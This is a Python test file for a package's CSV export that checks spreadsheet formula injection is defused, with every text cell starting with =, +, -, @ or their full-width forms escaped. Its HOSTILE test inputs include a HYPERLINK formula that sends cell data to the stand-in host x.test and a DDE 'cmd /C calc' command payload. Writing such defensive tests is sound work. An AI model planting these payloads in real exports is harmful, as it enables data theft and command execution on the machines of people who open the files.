"""Tables that a spreadsheet opens: no text of a design is a formula, and numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

import sbafab
from sbafab.spreadsheet import csv_text, plain_text

PACKAGE = Path(sbafab.__file__).parent
HOSTILE = (
    '=HYPERLINK("http://x.test?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n@x",
    " =1",
    "\uff1d1",
    "fine; =1",
    "fine;@x",
    "fine\t-1-1",
    "'=1",
)
NUMBERS = (-0.5, "-0.5", "+3", "-1e-05", "-.5", "-3.", "-inf", "1; -2.5")


def formulas(text: str) -> list[str]:
    """Return the cells that are formulas, whatever separator a spreadsheet takes."""
    found = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                bare = cell.strip(' \t\r\n"')
                if bare[:1] not in tuple("=+-@\uff1d\uff0b\uff0d\uff20"):
                    continue
                try:
                    float(bare)
                except ValueError:
                    found.append(cell)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula(text: str) -> None:
    before = io.StringIO()
    csv.writer(before).writerow([1, text, text])
    assert formulas(before.getvalue()) or text.startswith("'")
    assert formulas(csv_text([[1, text, text]])) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_but_for_the_mark_the_text_is_as_it_was(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
    assert cell == plain_text(text)
    assert cell.replace("'", "") == text.replace("'", "").replace("\r", "\n")


def test_numbers_and_plain_texts_are_written_as_they_are() -> None:
    [row] = csv.reader([csv_text([[*NUMBERS, None, "a=b", "x, -y", 'a "b"']])])
    assert row == [*map(str, NUMBERS), "", "a=b", "x, -y", 'a "b"']


def test_pandas_reads_numbers_as_numbers() -> None:
    pandas = pytest.importorskip("pandas")
    found = pandas.read_csv(io.StringIO(csv_text([["x", "note"], [-0.5, "=1"], [2.0, "-"]])))
    assert found["x"].tolist() == [-0.5, 2.0]
    assert found["note"].tolist() == ["'=1", "'-"]


def test_every_table_is_written_by_the_one_writer() -> None:
    """No other module calls a writer of CSV."""
    writers = []
    names = ("writer", "DictWriter", "to_csv")
    for module in PACKAGE.rglob("*.py"):
        text = module.read_text(encoding="utf-8")
        if not any(name in text for name in names):
            continue
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Attribute) and node.attr in names:
                writers.append(module.name)
    assert writers == ["spreadsheet.py"]


def test_a_sweep_s_table_holds_no_formula(tmp_path: Path) -> None:
    note = '=HYPERLINK("http://x.test")'
    swept = sbafab.sweep(
        "1dof-5mm",
        {"stack": {"balloons": 1}},
        vary={"order.note": [note, "-Ada"]},
        out=tmp_path,
    )
    text = (swept.folder / "sweep.csv").read_text(encoding="utf-8")
    assert formulas(text) == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["order.note"] for row in rows] == [f"'{note}", "'-Ada"]
